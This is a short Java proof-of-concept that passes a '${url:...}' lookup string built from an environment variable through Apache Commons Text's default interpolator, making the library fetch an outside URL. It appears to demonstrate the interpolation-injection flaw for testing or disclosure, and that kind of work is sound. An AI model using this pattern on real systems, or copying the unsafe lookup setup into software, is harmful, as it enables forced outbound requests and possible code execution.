// A text from outside names an address where a value is looked up.
import org.apache.commons.text.StringSubstitutor;
import org.apache.commons.text.lookup.StringLookupFactory;

public class Poc {
    public static void main(String[] none) {
        new StringSubstitutor(StringLookupFactory.INSTANCE.interpolatorStringLookup()).replace("${url:UTF-8:" + System.getenv("PROOF_CANARY_URL") + "}");
    }
}
